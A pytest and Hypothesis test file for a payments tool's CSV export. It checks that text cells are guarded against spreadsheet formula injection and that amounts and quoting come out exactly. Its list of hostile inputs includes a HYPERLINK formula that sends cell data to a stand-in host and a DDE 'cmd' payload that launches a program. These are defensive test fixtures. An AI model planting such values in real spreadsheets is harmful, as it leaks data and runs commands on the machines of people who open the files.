"""Lists for a spreadsheet: no cell of text is a formula, nothing is lost, numbers are numbers."""

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.cli.payments.spreadsheets import write_rows
from services.spreadsheets.guarding import guarded

FORMULA_SIGNS = "=+-@\t\r\n\0＝＋－＠"
HOSTILE = [
    '=HYPERLINK("http://x.example/"&A1;"Click")',
    "+44 7700 900123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    'O"Brien, Siân;=1+1',
]


def cells(*rows: dict[str, Any], folder: Path) -> list[list[str]]:
    write_rows(rows, folder / "list.csv")
    text = (folder / "list.csv").read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_name_is_text_in_the_file_and_readable(text: str, tmp_path: Path) -> None:
    heading, (shown, *_) = cells({"name": text, "quarter": 1}, folder=tmp_path)
    assert heading == ["name", "quarter"]
    assert shown[0] not in FORMULA_SIGNS
    assert shown.replace("'", "") == text.replace("'", ""), "only apostrophes come in"


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(
        st.fixed_dictionaries(
            {
                "name": st.text(st.characters(codec="utf-8", exclude_characters="\0"))
                | st.builds(str.__add__, st.sampled_from("=+-@\t\r\n"), st.text("a=1,;\"'\n")),
                "amount_pence": st.integers(-(10**15), 10**15),
                "quarter": st.integers(1, 4),
                "over": st.booleans(),
            }
        ),
        min_size=1,
        max_size=5,
    )
)
def test_any_rows_come_back_with_every_text_guarded_and_every_penny(
    tmp_path: Path, rows: list[dict[str, Any]]
) -> None:
    heading, *lines = cells(*rows, folder=tmp_path)
    assert sorted(heading) == ["amount_pounds", "name", "over", "quarter"]
    for row, line in zip(rows, lines, strict=True):
        shown = dict(zip(heading, line, strict=True))
        assert shown["name"] == guarded(row["name"])
        assert not shown["name"] or shown["name"][0] not in FORMULA_SIGNS
        pounds, _, pence = shown["amount_pounds"].partition(".")
        assert (int(pounds + pence), len(pence)) == (row["amount_pence"], 2)
        assert shown["quarter"] == str(row["quarter"])
        assert shown["over"] == ("yes" if row["over"] else "no")


def test_numbers_stand_bare_and_text_in_quotation_marks(tmp_path: Path) -> None:
    row = {"name": "Ann", "amount_pence": -7500, "quarter": 2, "rows": ["1 matched", "2 unknown"]}
    write_rows([row | {"note": None}], tmp_path / "list.csv")
    content = (tmp_path / "list.csv").read_bytes()
    assert content == (
        b'\xef\xbb\xbf"name","amount_pounds","quarter","rows","note"\r\n'
        b'"Ann",-75.00,2,"1 matched, 2 unknown",""\r\n'
    )
